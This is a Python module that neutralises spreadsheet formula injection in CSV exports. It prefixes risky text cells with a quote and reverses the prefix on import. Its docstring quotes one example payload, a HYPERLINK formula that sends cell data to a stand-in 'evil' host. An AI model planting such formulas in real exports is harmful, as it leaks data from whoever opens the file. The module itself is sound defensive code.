"""Spreadsheet formula injection: exported text that a spreadsheet would run is made inert.

A complaint filed anonymously with the description ``=HYPERLINK("http://evil/?"&A1,"Refund")``
becomes a live formula when an employee opens the CSV export in Excel or LibreOffice. OWASP's
advice: prefix text cells that begin with ``=``, ``+``, ``-``, ``@``, tab or carriage return with a
single quote, which spreadsheets show as text. A plain number is not a formula and is left as it
is, also as text (``-15.00`` in a rejects file, a negative amount exported from a ``Decimal``):
only a cell that is a number and nothing else (``PLAIN_NUMBER``) is exempt, so ``-1+1``,
``+1-2`` or ``-2E3+A1`` still get the quote. The importers undo the prefix (``restore``), so an
exported file still re-imports unchanged; a value that really starts with a quote followed by one
of those characters gets a second quote on export, so the mapping is exact both ways (``'-15``
is written ``''-15``; ``'-15`` read back, as older exports wrote it, is ``-15``).
"""

from __future__ import annotations

import re
from typing import Any

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?([eE][+-]?\d+)?")


def _needs_quote(text: str) -> bool:
    return text.lstrip("'").startswith(TRIGGERS)


def neutralise(value: Any) -> Any:
    """``value`` with a leading ``'`` if it is text a spreadsheet would treat as a formula (a
    plain number such as ``-15.00`` is not one)."""
    if (
        isinstance(value, str)
        and value
        and value[0] in "=+-@\t\r'"
        and _needs_quote(value)
        and not (value[0] in "+-" and PLAIN_NUMBER.fullmatch(value))
    ):
        return "'" + value
    return value


def restore(text: str) -> str:
    """Undo ``neutralise`` on a cell read back from a file."""
    if text[:1] == "'" and _needs_quote(text):
        return text[1:]
    return text


def restore_row(cells: list[str]) -> list[str]:
    """``restore`` every cell of a row; rows without a quote are returned as they are (fast)."""
    if "'" not in "".join(cells):
        return cells
    return [restore(c) if c[:1] == "'" else c for c in cells]


def neutralise_row(values: list[Any]) -> list[Any]:
    """``neutralise`` every value of a row."""
    return [neutralise(v) for v in values]
